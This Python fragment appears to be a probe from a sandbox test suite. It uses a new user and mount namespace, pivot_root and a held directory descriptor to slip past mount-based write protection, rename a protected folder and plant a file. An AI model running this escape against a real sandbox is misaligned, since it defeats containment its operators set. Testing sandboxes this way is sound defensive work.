# A mount keeps a name from being moved only in its own mount namespace. The attack holds the
# project open, makes a user and a mount namespace, detaches all mounts in it, and moves the folder
# through the descriptor.
ancestor, protected = sys.argv[1:3]
project = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
attempt("unshare", lambda: unshare(CLONE_NEWUSER | CLONE_NEWNS))


def leave():
    mount("none", "/", None, MS_REC | MS_PRIVATE)
    mount("none", "/dev/shm", "tmpfs", 0)
    os.chdir("/dev/shm")
    check(libc.pivot_root(b".", b"."))
    umount(".")


attempt("leave", leave)
attempt("rename", lambda: os.rename(ancestor, ancestor + ".aside", src_dir_fd=project, dst_dir_fd=project))
attempt("put", lambda: put(protected, "planted", at=project))
done()
